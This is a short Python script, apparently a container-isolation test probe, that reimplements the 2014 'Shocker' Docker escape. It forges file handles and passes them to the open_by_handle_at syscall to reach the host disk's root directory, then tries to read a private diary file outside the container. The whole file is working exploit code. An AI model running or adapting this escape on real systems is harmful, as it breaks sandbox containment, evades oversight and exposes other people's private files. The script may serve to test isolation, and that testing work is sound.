"""Opens files by handles that it makes up, without any path: inode 2 is the root of the disk of which it sees a part."""

SOURCE = "shocker.c, the first escape from Docker, 2014"
SUCCESS = "a canary in the outputs"

# %%
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
for mount in ("/usr", "/data", "/", "/tmp"):
    own = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    if libc.syscall(303, -100, mount.encode(), own, ctypes.byref(ctypes.c_int()), 0) == 0:
        print("its handle:", own.raw[:24].hex())
    else:
        print("name_to_handle_at", mount, os.strerror(ctypes.get_errno()))
    try:
        folder = os.open(mount, os.O_RDONLY)
    except OSError as error:
        print(error)
        continue
    for kind, handle in (
        (1, struct.pack("II", 2, 0)),
        (1, struct.pack("II", 128, 0)),
        (0x81, struct.pack("QI", 128, 0)),
    ):
        made = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle)
        root = libc.syscall(304, folder, made, os.O_RDONLY | os.O_DIRECTORY)
        print(mount, kind, "SUCCEEDED" if root >= 0 else os.strerror(ctypes.get_errno()))
        if root >= 0:
            try:
                print(os.read(os.open("@HOME@/private/diary.txt"[1:], os.O_RDONLY, dir_fd=root), 100))
            except OSError as error:
                print(error)
print("attempted")
